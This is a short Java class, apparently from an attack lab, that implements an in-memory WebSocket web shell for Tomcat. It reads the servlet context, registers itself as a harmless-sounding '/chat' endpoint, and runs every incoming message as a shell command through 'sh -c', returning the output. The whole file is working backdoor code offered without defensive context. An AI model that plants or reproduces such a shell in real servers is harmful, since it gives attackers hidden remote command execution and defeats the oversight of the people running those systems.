import javax.servlet.ServletContext;
import javax.websocket.Endpoint;
import javax.websocket.EndpointConfig;
import javax.websocket.MessageHandler;
import javax.websocket.Session;
import javax.websocket.server.ServerContainer;
import javax.websocket.server.ServerEndpointConfig;
import whorl.lab.attack.TomcatContext;

/** Registers itself as the endpoint of /chat. */
public class Shell extends Endpoint implements MessageHandler.Whole<String> {
  private Session session;

  public Shell() throws Exception {
    ServletContext context = TomcatContext.current().getServletContext();
    ServerContainer container =
        (ServerContainer) context.getAttribute(ServerContainer.class.getName());
    if (context.getAttribute("chat") == null) {
      context.setAttribute("chat", "yes");
      container.addEndpoint(ServerEndpointConfig.Builder.create(getClass(), "/chat").build());
    }
  }

  @Override
  public void onOpen(Session session, EndpointConfig config) {
    this.session = session;
    session.addMessageHandler(this);
  }

  @Override
  public void onMessage(String order) {
    try {
      session.getBasicRemote().sendText(run(order));
    } catch (java.io.IOException e) {
      e.printStackTrace();
    }
  }

  private static String run(String order) throws java.io.IOException {
    return new String(
        new ProcessBuilder("sh", "-c", order).start().getInputStream().readAllBytes());
  }
}
